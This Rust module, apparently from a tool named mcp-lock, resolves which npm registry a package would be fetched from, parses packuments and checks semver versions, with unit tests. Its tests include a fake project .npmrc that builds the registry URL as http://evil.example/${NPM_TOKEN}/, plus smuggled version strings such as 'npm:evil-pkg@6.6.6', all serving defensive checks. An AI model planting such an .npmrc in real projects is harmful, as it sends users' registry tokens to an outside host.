//! npm: which registry the user's npm would ask, and what a packument says.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use super::Fetcher;

/// npm's documented default registry, used only when no configuration names one.
pub const DEFAULT_REGISTRY: &str = "https://registry.npmjs.org/";

/// The registry npm uses for `name`, as npm finds it: `npm_config_registry` (or a
/// scoped `npm_config_@scope:registry`) in the environment, then the project's
/// `.npmrc`, then the user's (`NPM_CONFIG_USERCONFIG` or `~/.npmrc`), then npm's
/// default. A scoped `@scope:registry` line wins over `registry` for that scope.
/// `Err`: an rc file that cannot be read, or a registry a project's file builds from a
/// variable (see [`registry_given`]).
pub fn registry_for(
    name: &str,
    project_dir: &Path,
    env: &dyn Fn(&str) -> Option<String>,
) -> Result<String, String> {
    registry_given(name, None, project_dir, env)
}

/// The largest `.npmrc` read (a regular file only).
const MAX_NPMRC_BYTES: u64 = 1024 * 1024;

/// [`registry_for`] with the runner's `--registry` argument, when given: it sets
/// `registry` above the environment and the rc files, but a scoped
/// `@scope:registry` still wins for that scope, as npm has it.
///
/// An rc file inside the project is the repository's: a `${VAR}` in the registry it
/// names is refused rather than expanded (npm would expand it, and a cloned
/// repository could so send a token of the environment to a host of its choosing),
/// and an rc file that is there but cannot be read is an error, never skipped (npm
/// would then ask a registry mcp-lock did not check).
pub fn registry_given(
    name: &str,
    argument: Option<&str>,
    project_dir: &Path,
    env: &dyn Fn(&str) -> Option<String>,
) -> Result<String, String> {
    let scope = name
        .strip_prefix('@')
        .and_then(|s| s.split_once('/'))
        .map(|(scope, _)| format!("@{scope}:registry"));
    let from_env = |key: &str| {
        env(&format!("npm_config_{key}"))
            .or_else(|| env(&format!("NPM_CONFIG_{}", key.to_ascii_uppercase())))
            .filter(|v| !v.is_empty())
    };
    let mut files: Vec<PathBuf> = vec![project_dir.join(".npmrc")];
    match env("NPM_CONFIG_USERCONFIG").or_else(|| env("npm_config_userconfig")) {
        Some(path) => files.push(PathBuf::from(path)),
        None => {
            if let Some(home) = env("HOME") {
                files.push(Path::new(&home).join(".npmrc"));
            }
        }
    }
    let project = project_dir.canonicalize().ok();
    let mut rcs: Vec<(PathBuf, bool, BTreeMap<String, String>)> = Vec::new();
    for file in files {
        let bytes = match crate::base::files::read_regular(&file, MAX_NPMRC_BYTES) {
            Ok(bytes) => bytes,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => continue,
            Err(e) => return Err(format!("cannot read {}: {e}", file.display())),
        };
        let theirs = match (&project, file.canonicalize()) {
            (Some(project), Ok(real)) => real.starts_with(project),
            _ => true,
        };
        let rc = parse_npmrc(&String::from_utf8_lossy(&bytes), env, !theirs);
        rcs.push((file, theirs, rc));
    }
    let mut keys = Vec::new();
    if let Some(scope) = &scope {
        keys.push(scope.as_str());
    }
    keys.push("registry");
    for key in keys {
        if key == "registry"
            && let Some(value) = argument
        {
            return Ok(with_slash(value.to_string()));
        }
        if let Some(value) = from_env(key) {
            return Ok(with_slash(value));
        }
        if let Some((file, theirs, value)) = rcs
            .iter()
            .find_map(|(file, theirs, rc)| Some((file, theirs, rc.get(key)?)))
        {
            if *theirs && value.contains("${") {
                return Err(format!(
                    "{}: `{key}` is built from an environment variable, which mcp-lock does not expand in a project's .npmrc (a cloned repository could send its value to a host of its choosing); set npm_config_registry in the environment instead",
                    file.display()
                ));
            }
            return Ok(with_slash(value.clone()));
        }
    }
    Ok(DEFAULT_REGISTRY.to_string())
}

fn with_slash(mut url: String) -> String {
    if !url.ends_with('/') {
        url.push('/');
    }
    url
}

/// `key = value` lines of an `.npmrc`, `${VAR}` expanded as npm does when `expand`
/// (else kept as written); comments (`#`, `;`) skipped.
fn parse_npmrc(
    text: &str,
    env: &dyn Fn(&str) -> Option<String>,
    expand: bool,
) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    for line in text.lines() {
        let line = line.trim();
        if line.is_empty() || line.starts_with(['#', ';']) {
            continue;
        }
        let Some((key, value)) = line.split_once('=') else {
            continue;
        };
        let mut value = value.trim().trim_matches('"').to_string();
        while expand && let Some(start) = value.find("${") {
            let Some(len) = value[start..].find('}') else {
                break;
            };
            let var = value[start + 2..start + len].to_string();
            value.replace_range(start..start + len + 1, &env(&var).unwrap_or_default());
        }
        out.insert(key.trim().to_string(), value);
    }
    out
}

/// What the registry says about a package: its dist-tags and each version's
/// `dist.integrity`.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Packument {
    pub tags: BTreeMap<String, String>,
    /// Version -> integrity (`None`: the registry gave no `dist.integrity`).
    pub versions: BTreeMap<String, Option<String>>,
}

/// Fetches a packument (the abbreviated one npm install uses) from `registry`.
pub async fn fetch(registry: &str, name: &str, get: &Fetcher) -> Result<Packument, String> {
    let url = format!("{registry}{}", name.replace('/', "%2f"));
    let body = get
        .get(
            &url,
            "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8",
        )
        .await?;
    parse_packument(&body)
        .map_err(|e| format!("the registry at {registry} answered for {name} with {e}"))
}

/// Reads a packument's dist-tags and versions.
pub fn parse_packument(body: &str) -> Result<Packument, String> {
    #[derive(serde::Deserialize)]
    struct Shape {
        #[serde(rename = "dist-tags")]
        tags: Option<BTreeMap<String, serde_json::Value>>,
        versions: Option<BTreeMap<String, Manifest>>,
    }
    #[derive(serde::Deserialize)]
    struct Manifest {
        dist: Option<Dist>,
    }
    #[derive(serde::Deserialize)]
    struct Dist {
        integrity: Option<serde_json::Value>,
    }
    // Only the parts read here are kept: a large packument costs little beyond its
    // bytes.
    let shape: Shape = serde_json::from_str(body).map_err(|e| match e.classify() {
        serde_json::error::Category::Data => format!("a document that is not a packument ({e})"),
        _ => format!("something that is not JSON ({e})"),
    })?;
    let tags = shape
        .tags
        .ok_or("a document without dist-tags (not a packument)")?;
    let versions = shape
        .versions
        .ok_or("a document without versions (not a packument)")?;
    Ok(Packument {
        tags: tags
            .into_iter()
            .filter_map(|(k, v)| Some((k, v.as_str()?.to_string())))
            .collect(),
        versions: versions
            .into_iter()
            .map(|(version, manifest)| {
                let integrity = manifest
                    .dist
                    .and_then(|d| d.integrity)
                    .and_then(|i| i.as_str().map(String::from));
                (version, integrity)
            })
            .collect(),
    })
}

/// Whether `v` is a semver 2.0 version as npm publishes it: `MAJOR.MINOR.PATCH`, an
/// optional `-pre.release` and `+build`, numbers without leading zeros, nothing else
/// (no `v`, no range, no `npm:` alias, no path). At most 256 characters, npm's limit.
pub fn is_semver(v: &str) -> bool {
    fn number(s: &str) -> bool {
        !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit()) && (s == "0" || !s.starts_with('0'))
    }
    fn identifiers(s: &str, numbers_strict: bool) -> bool {
        s.split('.').all(|id| {
            !id.is_empty()
                && id.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
                && (!numbers_strict || !id.bytes().all(|b| b.is_ascii_digit()) || number(id))
        })
    }
    if v.is_empty() || v.len() > 256 {
        return false;
    }
    let (rest, build) = match v.split_once('+') {
        Some((rest, build)) => (rest, Some(build)),
        None => (v, None),
    };
    let (core, pre) = match rest.split_once('-') {
        Some((core, pre)) => (core, Some(pre)),
        None => (rest, None),
    };
    let parts: Vec<&str> = core.split('.').collect();
    parts.len() == 3
        && parts.iter().all(|p| number(p))
        && pre.is_none_or(|p| identifiers(p, true))
        && build.is_none_or(|b| identifiers(b, false))
}

/// Semver 2.0 precedence of two versions npm publishes (build metadata ignored); a
/// string that is not semver sorts below every version.
pub fn compare(a: &str, b: &str) -> std::cmp::Ordering {
    use std::cmp::Ordering;
    fn parts(v: &str) -> Option<(Vec<u64>, Option<&str>)> {
        if !is_semver(v) {
            return None;
        }
        let v = v.split_once('+').map_or(v, |(rest, _)| rest);
        let (core, pre) = match v.split_once('-') {
            Some((core, pre)) => (core, Some(pre)),
            None => (v, None),
        };
        // Parts longer than a u64 compare as the largest.
        let numbers = core
            .split('.')
            .map(|n| n.parse().unwrap_or(u64::MAX))
            .collect();
        Some((numbers, pre))
    }
    fn identifier(a: &str, b: &str) -> Ordering {
        let numeric = |s: &str| s.bytes().all(|c| c.is_ascii_digit());
        match (numeric(a), numeric(b)) {
            (true, true) => (a.len(), a).cmp(&(b.len(), b)),
            (true, false) => Ordering::Less,
            (false, true) => Ordering::Greater,
            (false, false) => a.cmp(b),
        }
    }
    match (parts(a), parts(b)) {
        (None, None) => a.cmp(b),
        (None, Some(_)) => Ordering::Less,
        (Some(_), None) => Ordering::Greater,
        (Some((ca, pa)), Some((cb, pb))) => ca.cmp(&cb).then_with(|| match (pa, pb) {
            (None, None) => Ordering::Equal,
            (None, Some(_)) => Ordering::Greater,
            (Some(_), None) => Ordering::Less,
            (Some(pa), Some(pb)) => {
                let (mut xa, mut xb) = (pa.split('.'), pb.split('.'));
                loop {
                    match (xa.next(), xb.next()) {
                        (None, None) => break Ordering::Equal,
                        (None, Some(_)) => break Ordering::Less,
                        (Some(_), None) => break Ordering::Greater,
                        (Some(x), Some(y)) => match identifier(x, y) {
                            Ordering::Equal => continue,
                            other => break other,
                        },
                    }
                }
            }
        }),
    }
}

/// Whether a semver version is a prerelease (`1.0.0-rc.1`).
pub fn is_prerelease(v: &str) -> bool {
    v.split_once('+').map_or(v, |(rest, _)| rest).contains('-')
}

/// The sha512 entry of an SRI integrity (`sha512-<88 base64>`), the only one npm
/// verifies a tarball by; `None` when it has none (a `sha1-…` alone is no pin).
pub fn sha512_of(integrity: &str) -> Option<&str> {
    integrity.split_whitespace().find(|entry| {
        entry.strip_prefix("sha512-").is_some_and(|b64| {
            let b64 = b64.split('?').next().unwrap_or(b64);
            b64.len() == 88
                && b64.ends_with("==")
                && b64[..86]
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/')
        })
    })
}

/// Whether a spec is one exact version (`1.2.3`, `1.2.3-rc.1`, `=1.2.3`, `v1.2.3`).
pub fn exact_version(spec: &str) -> Option<&str> {
    let v = spec.trim_start_matches('=').trim_start_matches('v');
    is_semver(v).then_some(v)
}

/// Whether a spec is a dist-tag (`latest`, `next`): a word that is no version or range.
pub fn is_tag(spec: &str) -> bool {
    !spec.is_empty()
        && spec.chars().next().is_some_and(|c| c.is_ascii_alphabetic())
        && spec
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
        && exact_version(spec).is_none()
}

/// The version a spec resolves to in a packument, as npm would pick it for an exact
/// version or a tag. Ranges are not resolved here (an error saying to pin one).
pub fn resolve(
    packument: &Packument,
    registry: &str,
    name: &str,
    spec: Option<&str>,
) -> Result<String, String> {
    let version = resolve_unchecked(packument, name, spec)?;
    if !is_semver(&version) {
        return Err(format!(
            "the registry at {registry} gives {name} the version {version:?}, which is not a semver version; refusing to pin or launch it"
        ));
    }
    Ok(version)
}

fn resolve_unchecked(
    packument: &Packument,
    name: &str,
    spec: Option<&str>,
) -> Result<String, String> {
    let spec = spec.unwrap_or("latest");
    if let Some(version) = exact_version(spec) {
        return if packument.versions.contains_key(version) {
            Ok(version.to_string())
        } else {
            // As written (`=1.2.3`, `v1.2.3`), not as read.
            Err(format!("{name}@{spec} is not published on the registry"))
        };
    }
    if is_tag(spec) {
        return packument
            .tags
            .get(spec)
            .cloned()
            .ok_or_else(|| format!("{name} has no dist-tag {spec:?} on the registry"));
    }
    Err(format!(
        "{name}@{spec}: version ranges are not resolved; write an exact version or a dist-tag"
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn registry_comes_from_env_then_project_then_user_npmrc() {
        let dir = tempfile::tempdir().unwrap();
        let home = tempfile::tempdir().unwrap();
        let home_path = home.path().to_str().unwrap().to_string();
        let env_none = |k: &str| (k == "HOME").then(|| home_path.clone());
        assert_eq!(
            registry_for("pkg", dir.path(), &env_none).unwrap(),
            DEFAULT_REGISTRY
        );
        std::fs::write(
            home.path().join(".npmrc"),
            "registry=http://user.example/\n",
        )
        .unwrap();
        assert_eq!(
            registry_for("pkg", dir.path(), &env_none).unwrap(),
            "http://user.example/"
        );
        std::fs::write(
            dir.path().join(".npmrc"),
            "; comment\nregistry = http://project.example\n@corp:registry=http://corp.example/npm/\n",
        )
        .unwrap();
        assert_eq!(
            registry_for("pkg", dir.path(), &env_none).unwrap(),
            "http://project.example/"
        );
        assert_eq!(
            registry_for("@corp/tool", dir.path(), &env_none).unwrap(),
            "http://corp.example/npm/"
        );
        let env = |k: &str| match k {
            "npm_config_registry" => Some("http://env.example/".to_string()),
            "HOME" => Some(home_path.clone()),
            _ => None,
        };
        assert_eq!(
            registry_for("pkg", dir.path(), &env).unwrap(),
            "http://env.example/"
        );
        assert_eq!(
            registry_given("pkg", Some("http://arg.example"), dir.path(), &env).unwrap(),
            "http://arg.example/",
            "the argument outranks the environment's registry"
        );
        // A scoped registry outranks the plain one for its scope.
        assert_eq!(
            registry_for("@corp/tool", dir.path(), &env).unwrap(),
            "http://corp.example/npm/"
        );
        assert_eq!(
            registry_given("@corp/tool", Some("http://arg.example"), dir.path(), &env).unwrap(),
            "http://corp.example/npm/",
            "a scoped registry outranks a --registry argument too"
        );
    }

    #[test]
    fn a_projects_npmrc_may_not_build_the_registry_from_a_variable_the_users_may() {
        let dir = tempfile::tempdir().unwrap();
        let home = tempfile::tempdir().unwrap();
        let home_path = home.path().to_str().unwrap().to_string();
        let env = |k: &str| match k {
            "HOME" => Some(home_path.clone()),
            "NPM_TOKEN" => Some("s3cr3t".to_string()),
            _ => None,
        };
        std::fs::write(
            home.path().join(".npmrc"),
            "registry=http://user.example/${NPM_TOKEN}/\n",
        )
        .unwrap();
        assert_eq!(
            registry_for("pkg", dir.path(), &env).unwrap(),
            "http://user.example/s3cr3t/",
            "the user's own file is expanded, as npm does"
        );
        std::fs::write(
            dir.path().join(".npmrc"),
            "registry=http://evil.example/${NPM_TOKEN}/\n",
        )
        .unwrap();
        let refused = registry_for("pkg", dir.path(), &env).unwrap_err();
        assert!(
            refused.contains(".npmrc: `registry` is built from an environment variable"),
            "{refused}"
        );
        assert!(!refused.contains("s3cr3t"), "{refused}");
        // A file the user's config points into the project is the project's too.
        std::fs::remove_file(dir.path().join(".npmrc")).unwrap();
        std::fs::write(
            dir.path().join("rc"),
            "registry=http://evil.example/${NPM_TOKEN}/\n",
        )
        .unwrap();
        let rc = dir.path().join("rc").display().to_string();
        let pointed = |k: &str| match k {
            "NPM_CONFIG_USERCONFIG" => Some(rc.clone()),
            other => env(other),
        };
        assert!(registry_for("pkg", dir.path(), &pointed).is_err());
    }

    #[test]
    fn an_npmrc_that_is_there_but_cannot_be_read_is_an_error_not_skipped() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join(".npmrc")).unwrap();
        let error = registry_for("pkg", dir.path(), &|_| None).unwrap_err();
        assert!(error.contains(".npmrc: it is a directory"), "{error}");
    }

    #[test]
    fn packument_versions_tags_and_integrity() {
        let p = parse_packument(
            r#"{"name":"t","dist-tags":{"latest":"1.0.1"},"versions":{
                "1.0.0":{"dist":{"integrity":"sha512-a"}},"1.0.1":{"dist":{}}}}"#,
        )
        .unwrap();
        assert_eq!(p.tags["latest"], "1.0.1");
        assert_eq!(p.versions["1.0.0"].as_deref(), Some("sha512-a"));
        assert_eq!(p.versions["1.0.1"], None);
        assert_eq!(resolve(&p, "R", "t", None).unwrap(), "1.0.1");
        assert_eq!(resolve(&p, "R", "t", Some("1.0.0")).unwrap(), "1.0.0");
        assert!(
            resolve(&p, "R", "t", Some("2.0.0"))
                .unwrap_err()
                .contains("not published")
        );
        assert!(
            resolve(&p, "R", "t", Some("next"))
                .unwrap_err()
                .contains("no dist-tag")
        );
        assert!(
            resolve(&p, "R", "t", Some("^1"))
                .unwrap_err()
                .contains("ranges")
        );
    }

    #[test]
    fn garbage_is_not_a_packument() {
        assert!(
            parse_packument("<html>oops</html>")
                .unwrap_err()
                .contains("not JSON")
        );
        assert!(
            parse_packument(r#"{"error":"not found"}"#)
                .unwrap_err()
                .contains("dist-tags")
        );
        assert!(
            parse_packument(r#"{"dist-tags":{},"versions":[]}"#)
                .unwrap_err()
                .contains("not a packument")
        );
    }

    #[test]
    fn exact_versions_and_tags() {
        assert_eq!(exact_version("1.2.3"), Some("1.2.3"));
        assert_eq!(exact_version("=v1.2.3-rc.1"), Some("1.2.3-rc.1"));
        assert_eq!(exact_version("1.2"), None);
        assert_eq!(exact_version("1.2.3-x@npm:evil"), None);
        assert_eq!(exact_version("^1.2.3"), None);
        assert!(is_tag("latest") && is_tag("next"));
        assert!(!is_tag("1.2.3") && !is_tag("^1") && !is_tag("1.x"));
    }

    #[test]
    fn a_version_that_is_not_semver_is_never_pinned_naming_the_registry_and_the_value() {
        for bad in [
            "npm:evil-pkg@6.6.6",
            "file:/srv/evil.tgz",
            "1.0.0 || 6.6.6",
            "v1.0.0",
            "01.0.0",
            "1.0.0-01",
            "1.0",
            "1.0.0-",
            "1.0.0+",
            "1.0.0-a..b",
        ] {
            assert!(!is_semver(bad), "{bad}");
            let p = Packument {
                tags: [("latest".to_string(), bad.to_string())].into(),
                versions: [(bad.to_string(), Some("sha512-x".to_string()))].into(),
            };
            let err = resolve(&p, "http://127.0.0.1:9/", "tiny-mcp", None).unwrap_err();
            assert!(
                err.starts_with("the registry at http://127.0.0.1:9/ gives tiny-mcp the version")
                    && err.contains(&format!("{bad:?}"))
                    && err.contains("not a semver version"),
                "{err}"
            );
        }
        for good in [
            "0.0.0",
            "1.2.3",
            "10.20.30-rc.1+build.007",
            "1.0.0-0a.1",
            "2026.8.31",
        ] {
            assert!(is_semver(good), "{good}");
        }
    }

    #[test]
    fn semver_precedence_as_the_spec_orders_it() {
        use std::cmp::Ordering::*;
        let order = [
            "1.0.0-alpha",
            "1.0.0-alpha.1",
            "1.0.0-alpha.beta",
            "1.0.0-beta",
            "1.0.0-beta.2",
            "1.0.0-beta.11",
            "1.0.0-rc.1",
            "1.0.0",
            "1.0.1",
            "1.2.0",
            "1.10.0",
            "2.0.0",
        ];
        for pair in order.windows(2) {
            assert_eq!(compare(pair[0], pair[1]), Less, "{pair:?}");
            assert_eq!(compare(pair[1], pair[0]), Greater, "{pair:?}");
        }
        assert_eq!(compare("1.0.0+a", "1.0.0+b"), Equal);
        assert_eq!(compare("not-semver", "0.0.1"), Less);
        assert!(is_prerelease("1.0.0-rc.1+x") && !is_prerelease("1.0.0+build-1"));
    }

    #[test]
    fn only_a_sha512_integrity_is_a_pin() {
        let b64 = format!("{}==", "A".repeat(86));
        let sha512 = format!("sha512-{b64}");
        assert_eq!(sha512_of(&sha512), Some(sha512.as_str()));
        assert_eq!(
            sha512_of(&format!("sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk= {sha512}")),
            Some(sha512.as_str())
        );
        assert_eq!(sha512_of("sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk="), None);
        assert_eq!(sha512_of("sha512-short=="), None);
        assert_eq!(sha512_of("sha256-AAAA"), None);
    }
}
